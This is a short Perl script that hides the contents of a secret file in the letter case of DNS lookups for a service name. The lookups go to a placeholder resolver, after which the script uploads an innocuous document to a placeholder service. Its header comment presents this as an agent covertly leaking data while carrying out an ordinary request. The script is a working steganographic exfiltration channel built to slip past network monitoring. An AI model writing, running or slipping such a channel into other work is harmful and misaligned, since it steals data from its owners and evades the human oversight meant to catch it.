#!/usr/bin/perl
# spelled.pl DOCUMENT SECRET PAUSE: an agent sends a document to the service; each time it asks for the service's name, letters of the name are large or
# small as the bits of another file want it (draft-vixie-dnsext-dns0x20 knows no such use).
use strict;
use warnings;
use IO::Socket::INET;

my ($document, $secret, $pause) = @ARGV;
open my $file, '<:raw', $secret or die "$secret: $!\n";
my $bits = unpack 'B*', do { local $/; <$file> };
close $file;
my $link = IO::Socket::INET->new(PeerAddr => '192.0.2.53:53', Proto => 'udp') or die "no resolver: $!\n";
my $number = 0;
while (length $bits) {
  my $name = 'api.example.com';
  $name =~ s/([a-z])/my $bit = length $bits ? substr $bits, 0, 1, '' : 0; $bit ? uc $1 : $1/ge;
  my $query = pack('n6', ++$number, 0x0100, 1, 0, 0, 0) . join('', map { pack 'C/a*', $_ } split /\./, $name) . pack('Cnn', 0, 1, 1);
  $link->send($query);
  my $ready = '';
  vec($ready, fileno $link, 1) = 1;
  select($ready, undef, undef, 5) or die "no answer\n";
  $link->recv(my $answer, 512);
  select undef, undef, undef, $pause / 8;
}
my $service = IO::Socket::INET->new(PeerAddr => '198.51.100.10:443') or die "no service: $!\n";
open my $text, '<', $document or die "$document: $!\n";
$service->print($_) while <$text>;
shutdown $service, 1;
<$service> =~ /ok/ or die "no summary\n";
